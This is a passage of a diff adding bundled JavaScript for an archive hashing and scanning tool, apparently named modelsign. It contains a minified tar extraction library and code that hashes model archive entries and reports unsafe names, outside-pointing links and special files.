+          i.splice(0, this.strip), t.path = i.join("/");
+        }
+        if (isFinite(this.maxDepth) && i.length > this.maxDepth) return this.warn("TAR_ENTRY_ERROR", "path excessively deep", { entry: t, path: e, depth: i.length, maxDepth: this.maxDepth }), false;
+        if (!this[Rs](t, "path") || !this[Rs](t, "linkpath")) return false;
+        if (t.absolute = R.isAbsolute(t.path) ? f(R.resolve(t.path)) : f(R.resolve(this.cwd, t.path)), !this.preservePaths && typeof t.absolute == "string" && t.absolute.indexOf(this.cwd + "/") !== 0 && t.absolute !== this.cwd) return this.warn("TAR_ENTRY_ERROR", "path escaped extraction target", { entry: t, path: f(t.path), resolvedPath: t.absolute, cwd: this.cwd }), false;
+        if (t.absolute === this.cwd && t.type !== "Directory" && t.type !== "GNUDumpDir") return false;
+        if (this.win32) {
+          let { root: r } = R.win32.parse(String(t.absolute));
+          t.absolute = r + ts(String(t.absolute).slice(r.length));
+          let { root: n } = R.win32.parse(t.path);
+          t.path = n + ts(t.path.slice(n.length));
+        }
+        return true;
+      }
+      [Dr](t) {
+        if (!this[Fr](t)) return t.resume();
+        switch (co.equal(typeof t.absolute, "string"), t.type) {
+          case "Directory":
+          case "GNUDumpDir":
+            t.mode && (t.mode = t.mode | 448);
+          case "File":
+          case "OldFile":
+          case "ContiguousFile":
+          case "Link":
+          case "SymbolicLink":
+            return this[_s](t);
+          default:
+            return this[Cr](t);
+        }
+      }
+      [O](t, e) {
+        t.name === "CwdError" ? this.emit("error", t) : (this.warn("TAR_ENTRY_ERROR", t, { entry: e }), this[$t](), e.resume());
+      }
+      [yt](t, e, i) {
+        gr(f(t), { uid: this.uid, gid: this.gid, processUid: this.processUid, processGid: this.processGid, umask: this.processUmask, preserve: this.preservePaths, unlink: this.unlink, cwd: this.cwd, mode: e }, i);
+      }
+      [ge](t) {
+        return this.forceChown || this.preserveOwner && (typeof t.uid == "number" && t.uid !== this.processUid || typeof t.gid == "number" && t.gid !== this.processGid) || typeof this.uid == "number" && this.uid !== this.processUid || typeof this.gid == "number" && this.gid !== this.processGid;
+      }
+      [be](t) {
+        return vr(this.uid, t.uid, this.processUid);
+      }
+      [_e](t) {
+        return vr(this.gid, t.gid, this.processGid);
+      }
+      [Ts](t, e) {
+        let i = typeof t.mode == "number" ? t.mode & 4095 : this.fmode, r = new et(String(t.absolute), { flags: ms(t.size), mode: i, autoClose: false });
+        r.on("error", (a) => {
+          r.fd && u.close(r.fd, () => {
+          }), r.write = () => true, this[O](a, t), e();
+        });
+        let n = 1, o = (a) => {
+          if (a) {
+            r.fd && u.close(r.fd, () => {
+            }), this[O](a, t), e();
+            return;
+          }
+          --n === 0 && r.fd !== void 0 && u.close(r.fd, (l) => {
+            l ? this[O](l, t) : this[$t](), e();
+          });
+        };
+        r.on("finish", () => {
+          let a = String(t.absolute), l = r.fd;
+          if (typeof l == "number" && t.mtime && !this.noMtime) {
+            n++;
+            let c = t.atime || /* @__PURE__ */ new Date(), d = t.mtime;
+            u.futimes(l, c, d, (y) => y ? u.utimes(a, c, d, (T) => o(T && y)) : o());
+          }
+          if (typeof l == "number" && this[ge](t)) {
+            n++;
+            let c = this[be](t), d = this[_e](t);
+            typeof c == "number" && typeof d == "number" && u.fchown(l, c, d, (y) => y ? u.chown(a, c, d, (T) => o(T && y)) : o());
+          }
+          o();
+        });
+        let h = this.transform && this.transform(t) || t;
+        h !== t && (h.on("error", (a) => {
+          this[O](a, t), e();
+        }), t.pipe(h)), h.pipe(r);
+      }
+      [xs](t, e) {
+        let i = typeof t.mode == "number" ? t.mode & 4095 : this.dmode;
+        this[yt](String(t.absolute), i, (r) => {
+          if (r) {
+            this[O](r, t), e();
+            return;
+          }
+          let n = 1, o = () => {
+            --n === 0 && (e(), this[$t](), t.resume());
+          };
+          t.mtime && !this.noMtime && (n++, u.utimes(String(t.absolute), t.atime || /* @__PURE__ */ new Date(), t.mtime, o)), this[ge](t) && (n++, u.chown(String(t.absolute), Number(this[be](t)), Number(this[_e](t)), o)), o();
+        });
+      }
+      [Cr](t) {
+        t.unsupported = true, this.warn("TAR_ENTRY_UNSUPPORTED", `unsupported entry type: ${t.type}`, { entry: t }), t.resume();
+      }
+      [Ar](t, e) {
+        let i = f(R.relative(this.cwd, R.resolve(R.dirname(String(t.absolute)), String(t.linkpath)))).split("/");
+        this[Re](t, this.cwd, i, () => this[gi](t, String(t.linkpath), "symlink", e), (r) => {
+          this[O](r, t), e();
+        });
+      }
+      [Ir](t, e) {
+        let i = f(R.resolve(this.cwd, String(t.linkpath))), r = f(String(t.linkpath)).split("/");
+        this[Re](t, this.cwd, r, () => this[gi](t, i, "link", e), (n) => {
+          this[O](n, t), e();
+        });
+      }
+      [Re](t, e, i, r, n) {
+        let o = i.shift();
+        if (this.preservePaths || o === void 0) return r();
+        let h = R.resolve(e, o);
+        u.lstat(h, (a, l) => {
+          if (a) return r();
+          if (l?.isSymbolicLink()) return n(new St(h, R.resolve(h, i.join("/"))));
+          this[Re](t, h, i, r, n);
+        });
+      }
+      [kr]() {
+        this[Ri]++;
+      }
+      [$t]() {
+        this[Ri]--, this[bs]();
+      }
+      [Ls](t) {
+        this[$t](), t.resume();
+      }
+      [Os](t, e) {
+        return t.type === "File" && !this.unlink && e.isFile() && e.nlink <= 1 && !Te;
+      }
+      [_s](t) {
+        this[kr]();
+        let e = [t.path];
+        t.linkpath && e.push(t.linkpath), this.reservations.reserve(e, (i) => this[Nr](t, i));
+      }
+      [Nr](t, e) {
+        let i = (h) => {
+          e(h);
+        }, r = () => {
+          this[yt](this.cwd, this.dmode, (h) => {
+            if (h) {
+              this[O](h, t), i();
+              return;
+            }
+            this[Oe] = true, n();
+          });
+        }, n = () => {
+          if (t.absolute !== this.cwd) {
+            let h = f(R.dirname(String(t.absolute)));
+            if (h !== this.cwd) return this[yt](h, this.dmode, (a) => {
+              if (a) {
+                this[O](a, t), i();
+                return;
+              }
+              o();
+            });
+          }
+          o();
+        }, o = () => {
+          u.lstat(String(t.absolute), (h, a) => {
+            if (a && (this.keep || this.newer && a.mtime > (t.mtime ?? a.mtime))) {
+              this[Ls](t), i();
+              return;
+            }
+            if (h || this[Os](t, a)) return this[P](null, t, i);
+            if (a.isDirectory()) {
+              if (t.type === "Directory") {
+                let l = this.chmod && t.mode && (a.mode & 4095) !== t.mode, c = (d) => this[P](d ?? null, t, i);
+                return l ? u.chmod(String(t.absolute), Number(t.mode), c) : c();
+              }
+              if (t.absolute !== this.cwd) return u.rmdir(String(t.absolute), (l) => this[P](l ?? null, t, i));
+            }
+            if (t.absolute === this.cwd) return this[P](null, t, i);
+            mo(String(t.absolute), (l) => this[P](l ?? null, t, i));
+          });
+        };
+        this[Oe] ? n() : r();
+      }
+      [P](t, e, i) {
+        if (t) {
+          this[O](t, e), i();
+          return;
+        }
+        switch (e.type) {
+          case "File":
+          case "OldFile":
+          case "ContiguousFile":
+            return this[Ts](e, i);
+          case "Link":
+            return this[Ir](e, i);
+          case "SymbolicLink":
+            return this[Ar](e, i);
+          case "Directory":
+          case "GNUDumpDir":
+            return this[xs](e, i);
+        }
+      }
+      [gi](t, e, i, r) {
+        u[i](e, String(t.absolute), (n) => {
+          n ? this[O](n, t) : (this[$t](), t.resume()), r();
+        });
+      }
+    };
+    ye = (s3) => {
+      try {
+        return [null, s3()];
+      } catch (t) {
+        return [t, null];
+      }
+    };
+    xe = class extends Xt {
+      sync = true;
+      [P](t, e) {
+        return super[P](t, e, () => {
+        });
+      }
+      [_s](t) {
+        if (!this[Oe]) {
+          let n = this[yt](this.cwd, this.dmode);
+          if (n) return this[O](n, t);
+          this[Oe] = true;
+        }
+        if (t.absolute !== this.cwd) {
+          let n = f(R.dirname(String(t.absolute)));
+          if (n !== this.cwd) {
+            let o = this[yt](n, this.dmode);
+            if (o) return this[O](o, t);
+          }
+        }
+        let [e, i] = ye(() => u.lstatSync(String(t.absolute)));
+        if (i && (this.keep || this.newer && i.mtime > (t.mtime ?? i.mtime))) return this[Ls](t);
+        if (e || this[Os](t, i)) return this[P](null, t);
+        if (i.isDirectory()) {
+          if (t.type === "Directory") {
+            let o = this.chmod && t.mode && (i.mode & 4095) !== t.mode, [h] = o ? ye(() => {
+              u.chmodSync(String(t.absolute), Number(t.mode));
+            }) : [];
+            return this[P](h, t);
+          }
+          let [n] = ye(() => u.rmdirSync(String(t.absolute)));
+          this[P](n, t);
+        }
+        let [r] = t.absolute === this.cwd ? [] : ye(() => po(String(t.absolute)));
+        this[P](r, t);
+      }
+      [Ts](t, e) {
+        let i = typeof t.mode == "number" ? t.mode & 4095 : this.fmode, r = (h) => {
+          let a;
+          try {
+            u.closeSync(n);
+          } catch (l) {
+            a = l;
+          }
+          (h || a) && this[O](h || a, t), e();
+        }, n;
+        try {
+          n = u.openSync(String(t.absolute), ms(t.size), i);
+        } catch (h) {
+          return r(h);
+        }
+        let o = this.transform && this.transform(t) || t;
+        o !== t && (o.on("error", (h) => this[O](h, t)), t.pipe(o)), o.on("data", (h) => {
+          try {
+            u.writeSync(n, h, 0, h.length);
+          } catch (a) {
+            r(a);
+          }
+        }), o.on("end", () => {
+          let h = null;
+          if (t.mtime && !this.noMtime) {
+            let a = t.atime || /* @__PURE__ */ new Date(), l = t.mtime;
+            try {
+              u.futimesSync(n, a, l);
+            } catch (c) {
+              try {
+                u.utimesSync(String(t.absolute), a, l);
+              } catch {
+                h = c;
+              }
+            }
+          }
+          if (this[ge](t)) {
+            let a = this[be](t), l = this[_e](t);
+            try {
+              u.fchownSync(n, Number(a), Number(l));
+            } catch (c) {
+              try {
+                u.chownSync(String(t.absolute), Number(a), Number(l));
+              } catch {
+                h = h || c;
+              }
+            }
+          }
+          r(h);
+        });
+      }
+      [xs](t, e) {
+        let i = typeof t.mode == "number" ? t.mode & 4095 : this.dmode, r = this[yt](String(t.absolute), i);
+        if (r) {
+          this[O](r, t), e();
+          return;
+        }
+        if (t.mtime && !this.noMtime) try {
+          u.utimesSync(String(t.absolute), t.atime || /* @__PURE__ */ new Date(), t.mtime);
+        } catch {
+        }
+        if (this[ge](t)) try {
+          u.chownSync(String(t.absolute), Number(this[be](t)), Number(this[_e](t)));
+        } catch {
+        }
+        e(), t.resume();
+      }
+      [yt](t, e) {
+        try {
+          return _r(f(t), { uid: this.uid, gid: this.gid, processUid: this.processUid, processGid: this.processGid, umask: this.processUmask, preserve: this.preservePaths, unlink: this.unlink, cwd: this.cwd, mode: e });
+        } catch (i) {
+          return i;
+        }
+      }
+      [Re](t, e, i, r, n) {
+        if (this.preservePaths || i.length === 0) return r();
+        let o = e;
+        for (let h of i) {
+          o = R.resolve(o, h);
+          let [a, l] = ye(() => u.lstatSync(o));
+          if (a) return r();
+          if (l.isSymbolicLink()) return n(new St(o, R.resolve(e, i.join("/"))));
+        }
+        r();
+      }
+      [gi](t, e, i, r) {
+        let n = `${i}Sync`;
+        try {
+          u[n](e, String(t.absolute)), r(), t.resume();
+        } catch (o) {
+          return this[O](o, t);
+        }
+      }
+    };
+    Eo = (s3) => {
+      let t = new xe(s3), e = s3.file, i = Br.statSync(e), r = s3.maxReadSize || 16 * 1024 * 1024;
+      new Be(e, { readSize: r, size: i.size }).pipe(t);
+    };
+    wo = (s3, t) => {
+      let e = new Xt(s3), i = s3.maxReadSize || 16 * 1024 * 1024, r = s3.file;
+      return new Promise((o, h) => {
+        e.on("error", h), e.on("close", o), Br.stat(r, (a, l) => {
+          if (a) h(a);
+          else {
+            let c = new _t(r, { readSize: i, size: l.size });
+            c.on("error", h), c.pipe(e);
+          }
+        });
+      });
+    };
+    So = K(Eo, wo, (s3) => new xe(s3), (s3) => new Xt(s3), (s3, t) => {
+      t?.length && Qi(s3, t);
+    });
+    yo = (s3, t) => {
+      let e = new kt(s3), i = true, r, n;
+      try {
+        try {
+          r = v.openSync(s3.file, "r+");
+        } catch (a) {
+          if (a?.code === "ENOENT") r = v.openSync(s3.file, "w+");
+          else throw a;
+        }
+        let o = v.fstatSync(r), h = Buffer.alloc(512);
+        t: for (n = 0; n < o.size; n += 512) {
+          for (let c = 0, d = 0; c < 512; c += d) {
+            if (d = v.readSync(r, h, c, h.length - c, n + c), n === 0 && h[0] === 31 && h[1] === 139) throw new Error("cannot append to compressed archives");
+            if (!d) break t;
+          }
+          let a = new F(h);
+          if (!a.cksumValid) break;
+          let l = 512 * Math.ceil((a.size || 0) / 512);
+          if (n + l + 512 > o.size) break;
+          n += l, s3.mtimeCache && a.mtime && s3.mtimeCache.set(String(a.path), a.mtime);
+        }
+        i = false, Ro(s3, e, n, r, t);
+      } finally {
+        if (i) try {
+          v.closeSync(r);
+        } catch {
+        }
+      }
+    };
+    Ro = (s3, t, e, i, r) => {
+      let n = new Wt(s3.file, { fd: i, start: e });
+      t.pipe(n), bo(t, r);
+    };
+    go = (s3, t) => {
+      t = Array.from(t);
+      let e = new wt(s3), i = (n, o, h) => {
+        let a = (T, D) => {
+          T ? v.close(n, (E) => h(T)) : h(null, D);
+        }, l = 0;
+        if (o === 0) return a(null, 0);
+        let c = 0, d = Buffer.alloc(512), y = (T, D) => {
+          if (T || D === void 0) return a(T);
+          if (c += D, c < 512 && D) return v.read(n, d, c, d.length - c, l + c, y);
+          if (l === 0 && d[0] === 31 && d[1] === 139) return a(new Error("cannot append to compressed archives"));
+          if (c < 512) return a(null, l);
+          let E = new F(d);
+          if (!E.cksumValid) return a(null, l);
+          let x = 512 * Math.ceil((E.size ?? 0) / 512);
+          if (l + x + 512 > o || (l += x + 512, l >= o)) return a(null, l);
+          s3.mtimeCache && E.mtime && s3.mtimeCache.set(String(E.path), E.mtime), c = 0, v.read(n, d, 0, 512, l, y);
+        };
+        v.read(n, d, 0, 512, l, y);
+      };
+      return new Promise((n, o) => {
+        e.on("error", o);
+        let h = "r+", a = (l, c) => {
+          if (l && l.code === "ENOENT" && h === "r+") return h = "w+", v.open(s3.file, h, a);
+          if (l || !c) return o(l);
+          v.fstat(c, (d, y) => {
+            if (d) return v.close(c, () => o(d));
+            i(c, y.size, (T, D) => {
+              if (T) return o(T);
+              let E = new et(s3.file, { fd: c, start: D });
+              e.pipe(E), E.on("error", o), E.on("close", n), _o(e, t);
+            });
+          });
+        };
+        v.open(s3.file, h, a);
+      });
+    };
+    bo = (s3, t) => {
+      t.forEach((e) => {
+        e.charAt(0) === "@" ? Ct({ file: Pr.resolve(s3.cwd, e.slice(1)), sync: true, noResume: true, onReadEntry: (i) => s3.add(i) }) : s3.add(e);
+      }), s3.end();
+    };
+    _o = async (s3, t) => {
+      for (let e of t) e.charAt(0) === "@" ? await Ct({ file: Pr.resolve(String(s3.cwd), e.slice(1)), noResume: true, onReadEntry: (i) => s3.add(i) }) : s3.add(e);
+      s3.end();
+    };
+    vt = K(yo, go, () => {
+      throw new TypeError("file is required");
+    }, () => {
+      throw new TypeError("file is required");
+    }, (s3, t) => {
+      if (!Bs(s3)) throw new TypeError("file is required");
+      if (s3.gzip || s3.brotli || s3.zstd || s3.file.endsWith(".br") || s3.file.endsWith(".tbr")) throw new TypeError("cannot append to compressed archives");
+      if (!t?.length) throw new TypeError("no paths specified to add/replace");
+    });
+    Oo = K(vt.syncFile, vt.asyncFile, vt.syncNoFile, vt.asyncNoFile, (s3, t = []) => {
+      vt.validate?.(s3, t), To(s3);
+    });
+    To = (s3) => {
+      let t = s3.filter;
+      s3.mtimeCache || (s3.mtimeCache = /* @__PURE__ */ new Map()), s3.filter = t ? (e, i) => t(e, i) && !((s3.mtimeCache?.get(e) ?? i.mtime ?? 0) > (i.mtime ?? 0)) : (e, i) => !((s3.mtimeCache?.get(e) ?? i.mtime ?? 0) > (i.mtime ?? 0));
+    };
+  }
+});
+
+// src/hashing/archive.ts
+var archive_exports = {};
+__export(archive_exports, {
+  EMBEDDED_SIGNATURE: () => EMBEDDED_SIGNATURE,
+  archiveSourceFor: () => archiveSourceFor,
+  isArchivePath: () => isArchivePath,
+  scanArchive: () => scanArchive
+});
+import { constants as constants3 } from "node:fs";
+import { open as open3, stat as stat3 } from "node:fs/promises";
+import path7 from "node:path";
+function isArchivePath(p2) {
+  return ARCHIVE_RE.test(p2);
+}
+async function archiveSourceFor(model) {
+  if (!isArchivePath(model)) return void 0;
+  try {
+    if (!(await stat3(model)).isFile()) return void 0;
+  } catch {
+  }
+  return (req) => scanArchive(model, req);
+}
+function cleanName(raw, isDir) {
+  let s3 = raw;
+  while (s3.startsWith("./")) s3 = s3.slice(2);
+  if (isDir) while (s3.endsWith("/")) s3 = s3.slice(0, -1);
+  return s3;
+}
+function entryKind(type) {
+  switch (type) {
+    case "File":
+    case "OldFile":
+    case "ContiguousFile":
+      return "file";
+    case "Directory":
+      return "dir";
+    case "Link":
+      return "hardlink";
+    case "SymbolicLink":
+      return "symlink";
+    case "CharacterDevice":
+    case "BlockDevice":
+    case "FIFO":
+      return "special";
+    default:
+      return "other";
+  }
+}
+async function scanArchive(file, req, opts = {}) {
+  await prepareAlgorithm(req.alg);
+  const maxEntries = opts.maxEntries ?? DEFAULT_MAX_ENTRIES;
+  try {
+    return await scanPass(file, req, { mode: "auto" }, maxEntries);
+  } catch (e) {
+    if (e instanceof RestartWithoutPrefix) return scanPass(file, req, { mode: "none" }, maxEntries);
+    throw e;
+  }
+}
+async function openArchive(file) {
+  let fh;
+  try {
+    fh = await open3(file, constants3.O_RDONLY | (constants3.O_NONBLOCK ?? 0));
+  } catch (e) {
+    const c = errnoCode(e);
+    throw usage("MODEL_NOT_FOUND", c === "ENOENT" ? `model not found: ${file}` : `cannot read archive ${file}: ${c ?? String(e)}`);
+  }
+  const st2 = await fh.stat();
+  if (!st2.isFile()) {
+    await fh.close();
+    throw usage("SPECIAL_FILE", `archive is not a regular file: ${file}`);
+  }
+  return { fh, size: st2.size };
+}
+async function scanPass(file, req, initial, maxEntries) {
+  const root = path7.resolve(file);
+  const { fh, size: archiveSize } = await openArchive(root);
+  const ignorePaths = [...req.ignorePaths, EMBEDDED_SIGNATURE];
+  const problems = [];
+  const files = [];
+  const hashed = /* @__PURE__ */ new Map();
+  const regular = /* @__PURE__ */ new Map();
+  const dirs = /* @__PURE__ */ new Set();
+  const seen = /* @__PURE__ */ new Set();
+  const symlinks = /* @__PURE__ */ new Map();
+  const pending = [];
+  let prefix = initial;
+  let entries = 0;
+  const hostile = (code, raw, message) => problems.push({ code, message: `archive entry ${JSON.stringify(raw)}: ${message}` });
+  const decidePrefix = (raw, cleaned, kind) => {
+    if (prefix.mode !== "auto") return;
+    const segs = cleaned.split("/");
+    if (raw.startsWith("./") || cleaned === "" || segs.length === 1 && kind !== "dir") {
+      prefix = { mode: "none" };
+      return;
+    }
+    const folder = segs[0];
+    const signed = req.signedPaths;
+    if (signed && signed.size > 0 && [...signed].every((p2) => p2.startsWith(`${folder}/`))) {
+      prefix = { mode: "none" };
+      return;
+    }
+    prefix = { mode: "strip", folder };
+  };
+  const toModelName = (cleaned) => {
+    if (cleaned === "" || cleaned === ".") return void 0;
+    if (prefix.mode !== "strip") return cleaned;
+    if (cleaned === prefix.folder) return void 0;
+    if (cleaned.startsWith(`${prefix.folder}/`)) return cleaned.slice(prefix.folder.length + 1);
+    throw new RestartWithoutPrefix();
+  };
+  const hashEntry = (entry, name2, size, done) => {
+    const ranges = req.ranges(name2, size).filter(([s3, e]) => s3 >= 0 && e >= s3 && e <= size);
+    ranges.sort((a, b2) => a[0] - b2[0]);
+    const hashers = ranges.map(() => createHasher2(req.alg));
+    let pos = 0;
+    let lo2 = 0;
+    entry.on("data", (chunk) => {
+      const cEnd = pos + chunk.length;
+      while (lo2 < ranges.length && ranges[lo2][1] <= pos && ranges[lo2][1] !== ranges[lo2][0]) lo2++;
+      for (let i = lo2; i < ranges.length && ranges[i][0] < cEnd; i++) {
+        const [s3, e] = ranges[i];
+        const from = Math.max(s3, pos);
+        const to2 = Math.min(e, cEnd);
+        if (to2 > from) hashers[i].update(chunk.subarray(from - pos, to2 - pos));
+      }
+      pos = cEnd;
+    });
+    entry.on("end", () => {
+      if (pos !== size) {
+        hostile("ARCHIVE_MALFORMED", entry.path, `entry holds ${pos} bytes but its header says ${size}`);
+      } else {
+        ranges.forEach(([s3, e], i) => hashed.set(rangeKey(name2, s3, e), { ok: true, digest: hashers[i].digestHex() }));
+      }
+      done();
+    });
+  };
+  const onEntry = (entry) => {
+    const raw = entry.path;
+    const kind = entryKind(entry.type);
+    entries++;
+    if (entries > maxEntries) {
+      entry.resume();
+      throw usage("TOO_MANY_FILES", `archive has more than ${maxEntries} entries`);
+    }
+    const cleaned = cleanName(raw, kind === "dir");
+    decidePrefix(raw, cleaned, kind);
+    const why2 = cleaned === "" ? void 0 : unsafeNameReason(cleaned);
+    if (why2) {
+      hostile("UNSAFE_NAME", raw, `unsafe name (${why2})`);
+      entry.resume();
+      return;
+    }
+    const name2 = toModelName(cleaned);
+    if (name2 === void 0) {
+      if (kind !== "dir") hostile("UNSAFE_NAME", raw, "a non-directory entry names the model root");
+      entry.resume();
+      return;
+    }
+    if (seen.has(name2)) {
+      hostile("DUPLICATE_NAME", raw, "name appears twice in the archive");
+      entry.resume();
+      return;
+    }
+    seen.add(name2);
+    const ignored = isIgnored(name2, ignorePaths) && !(req.signedPaths?.has(name2) ?? false);
+    switch (kind) {
+      case "dir":
+        dirs.add(name2);
+        entry.resume();
+        return;
+      case "file": {
+        const size = entry.size ?? 0;
+        if (ignored) {
+          regular.set(name2, { size, hashed: false });
+          entry.resume();
+          return;
+        }
+        regular.set(name2, { size, hashed: true });
+        files.push({ name: name2, abs: root, size, viaLink: false });
+        hashEntry(entry, name2, size, () => void 0);
+        return;
+      }
+      case "hardlink": {
+        entry.resume();
+        const target = resolveHardlink(entry.linkpath ?? "");
+        const t = target === void 0 ? void 0 : regular.get(target);
+        if (target === void 0 || !t) {
+          hostile("ARCHIVE_LINK_OUTSIDE", raw, `hard link to ${JSON.stringify(entry.linkpath)}, which is not an earlier file of the model`);
+          return;
+        }
+        if (ignored) return;
+        if (!t.hashed) {
+          hostile("ARCHIVE_LINK_OUTSIDE", raw, `hard link to ignored file ${JSON.stringify(target)}`);
+          return;
+        }
+        for (const [s3, e] of req.ranges(name2, t.size)) {
+          const h = hashed.get(rangeKey(target, s3, e));
+          if (h) hashed.set(rangeKey(name2, s3, e), h);
+        }
+        regular.set(name2, { size: t.size, hashed: true });
+        files.push({ name: name2, abs: root, size: t.size, viaLink: false });
+        return;
+      }
+      case "symlink": {
+        entry.resume();
+        const lp = entry.linkpath ?? "";
+        const resolved = lp.startsWith("/") ? void 0 : path7.posix.normalize(path7.posix.join(path7.posix.dirname(name2), lp));
+        if (resolved === void 0 || resolved === ".." || resolved.startsWith("../") || resolved === ".") {
+          hostile("SYMLINK_OUTSIDE", raw, `symlink to ${JSON.stringify(lp)} points outside the model`);
+          return;
+        }
+        if (ignored) return;
+        if (!req.allowSymlinks) {
+          problems.push({ code: "SYMLINK_REFUSED", path: name2, message: "symlinks are not allowed (use --allow-symlinks for links inside the model)" });
+          return;
+        }
+        symlinks.set(name2, resolved);
+        pending.push({ name: name2, target: resolved });
+        return;
+      }
+      case "special":
+        entry.resume();
+        hostile("SPECIAL_FILE", raw, `${entry.type} entries are not allowed in a model archive`);
+        return;
+      default:
+        entry.resume();
+        hostile("UNSUPPORTED_ENTRY", raw, `unsupported tar entry type ${entry.type}`);
+    }
+  };
+  const resolveHardlink = (linkpath) => {
+    const cleaned = cleanName(linkpath, false);
+    if (unsafeNameReason(cleaned)) return void 0;
+    try {
+      return toModelName(cleaned);
+    } catch (e) {
+      if (e instanceof RestartWithoutPrefix) return void 0;
+      throw e;
+    }
+  };
+  const resolveSymlinks = () => {
+    for (const link of pending) {
+      let target = link.target;
+      let hops = 0;
+      while (symlinks.has(target) && hops++ < MAX_LINK_HOPS) target = symlinks.get(target);
+      const t = regular.get(target);
+      if (symlinks.has(target)) {
+        problems.push({ code: "SYMLINK_LOOP", path: link.name, message: "symlink chain loops or is too long" });
+      } else if (dirs.has(target) || [...seen].some((n) => n.startsWith(`${target}/`))) {
+        problems.push({ code: "SYMLINK_REFUSED", path: link.name, message: "symlinks to directories are not supported inside archives" });
+      } else if (!t) {
+        problems.push({ code: "SYMLINK_BROKEN", path: link.name, message: "symlink target does not exist in the archive" });
+      } else if (!t.hashed) {
+        problems.push({ code: "SYMLINK_REFUSED", path: link.name, message: "symlink to an ignored file" });
+      } else {
+        for (const [s3, e] of req.ranges(link.name, t.size)) {
+          const h = hashed.get(rangeKey(target, s3, e));
+          if (h) hashed.set(rangeKey(link.name, s3, e), h);
+        }
+        files.push({ name: link.name, abs: root, size: t.size, viaLink: true });
+      }
+    }
+  };
+  const { Parser } = await Promise.resolve().then(() => (init_index_min(), index_min_exports));
+  return new Promise((resolve, rejectP) => {
+    let finished = false;
+    const rs2 = fh.createReadStream({ highWaterMark: 1024 * 1024 });
+    let lastProgress = 0;
+    rs2.on("data", () => {
+      const now = Date.now();
+      if (req.onProgress && now - lastProgress >= 200) {
+        lastProgress = now;
+        req.onProgress(rs2.bytesRead, archiveSize);
+      }
+    });
+    const finish = (err) => {
+      if (finished) return;
+      finished = true;
+      if (err !== void 0) {
+        rs2.destroy();
+        if (err instanceof RestartWithoutPrefix || err instanceof Error && err.name === "ModelsignError") {
+          rejectP(err);
+          return;
+        }
+        const msg = err instanceof Error ? err.message : String(err);
+        problems.push({ code: "ARCHIVE_MALFORMED", message: `cannot read archive: ${msg.replace(/^TAR_[A-Z_]+: /, "")}` });
+      }
+      req.onProgress?.(archiveSize, archiveSize);
+      resolveSymlinks();
+      files.sort((a, b2) => compareCodePoints(a.name, b2.name));
+      resolve({ listing: { root, isFile: false, files, problems }, hashed });
+    };
+    const parser = new Parser({
+      strict: true,
+      onReadEntry: (entry) => {
+        if (finished) {
+          entry.resume();
+          return;
+        }
+        try {
+          onEntry(entry);
+        } catch (e) {
+          entry.resume();
+          finish(e);
+        }
+      }
+    });
+    parser.on("ignoredEntry", (entry) => {
+      if (!entry.meta) hostile("UNSUPPORTED_ENTRY", entry.path, `unsupported tar entry type ${entry.type}`);
+      else hostile("ARCHIVE_MALFORMED", entry.path, "oversized extended header");
+    });
+    parser.on("error", (e) => finish(e));
+    parser.on("end", () => finish());
+    rs2.on("error", (e) => {
+      if (finished) return;
+      finished = true;
+      rejectP(usage("MODEL_NOT_FOUND", `cannot read archive ${file}: ${errnoCode(e) ?? String(e)}`));
+    });
+    rs2.pipe(parser);
+  });
+}
+var ARCHIVE_RE, DEFAULT_MAX_ENTRIES, MAX_LINK_HOPS, EMBEDDED_SIGNATURE, RestartWithoutPrefix;
+var init_archive = __esm({
+  "src/hashing/archive.ts"() {
+    "use strict";
+    init_errors();
+    init_algorithms2();
+    init_paths();
+    init_source();
+    ARCHIVE_RE = /\.(tar|tar\.gz|tgz)$/i;
+    DEFAULT_MAX_ENTRIES = 1e6;
+    MAX_LINK_HOPS = 40;
+    EMBEDDED_SIGNATURE = "model.sig";
+    RestartWithoutPrefix = class extends Error {
+    };
+  }
+});
+
+// src/scan/tar.ts
+import { createReadStream as createReadStream2, createWriteStream } from "node:fs";
+import { mkdtemp, rm as rm2 } from "node:fs/promises";
+import os5 from "node:os";
+import path8 from "node:path";
+import { once } from "node:events";
+async function spool(src, dest) {
+  const ws2 = createWriteStream(dest, { mode: 384 });
+  try {
+    while (await src.ensure(1)) {
+      if (!ws2.write(Buffer.from(src.take(src.buffered)))) await once(ws2, "drain");
+    }
+  } finally {
+    ws2.end();
+    await once(ws2, "close");
+  }
+}
+async function scanTar(archive, limits) {
+  const reports = [];
+  const findings = [];
+  const base2 = path8.basename(archive);
+  let tmp;
+  let chain = Promise.resolve();
+  let failure;
+  const handle = async (entry) => {
+    const name2 = `${base2}:${entry.path}`;
+    if (entry.type !== "File" && entry.type !== "OldFile" && entry.type !== "ContiguousFile") {
+      if (entry.type === "SymbolicLink" || entry.type === "Link") {
+        findings.push({ code: "SCAN_SKIPPED", severity: "medium", file: name2, message: `${entry.type === "Link" ? "hard link" : "symlink"} to ${JSON.stringify(entry.linkpath ?? "")} is not scanned` });
+      }
+      entry.resume();
+      return;
+    }
+    if (reports.length >= limits.maxFiles) {
+      if (!findings.some((f2) => f2.code === "SCAN_LIMIT" && f2.message.startsWith("more than"))) {
+        findings.push({ code: "SCAN_LIMIT", severity: "high", file: name2, message: `more than ${limits.maxFiles} files in the archive; this entry and later ones are not scanned` });
+      }
+      entry.resume();
+      return;
+    }
+    const src = ByteSource.fromIterable(entry, entry.size);
+    await src.ensure(SNIFF_BYTES);
+    const kind = sniff(src.peek(SNIFF_BYTES), entry.path);
+    if (kind === "zip") {
+      if (entry.size > limits.maxMemberBytes) {
+        findings.push({ code: "SCAN_LIMIT", severity: "high", file: name2, message: `zip member of ${entry.size} bytes is over the ${limits.maxMemberBytes}-byte limit for copying out of the archive; not scanned` });
+        await src.drain();
+        return;
+      }
+      let dest;
+      try {
+        tmp ??= await mkdtemp(path8.join(os5.tmpdir(), "modelsign-scan-"));
+        dest = path8.join(tmp, "member.zip");
+        await spool(src, dest);
+      } catch (e) {
+        const code = errnoCode(e);
+        if (code === void 0) throw e;
+        if (dest) await rm2(dest, { force: true });
+        findings.push({ code: "SCAN_SKIPPED", severity: "high", file: name2, message: `zip member cannot be copied out of the archive to scan it (${code}; set TMPDIR to a writable directory); not scanned` });
+        await src.drain();
+        return;
+      }
+      try {
+        reports.push(report(name2, entry.size, await scanZip(dest, entry.size, name2, limits)));
+      } finally {
+        await rm2(dest, { force: true });
+      }
+      return;
+    }
+    reports.push(report(name2, entry.size, await scanStream(src, kind, entry.size, name2, limits)));
+    await src.drain();
+  };
+  try {
+    const { Parser } = await Promise.resolve().then(() => (init_index_min(), index_min_exports));
+    const parser = new Parser({
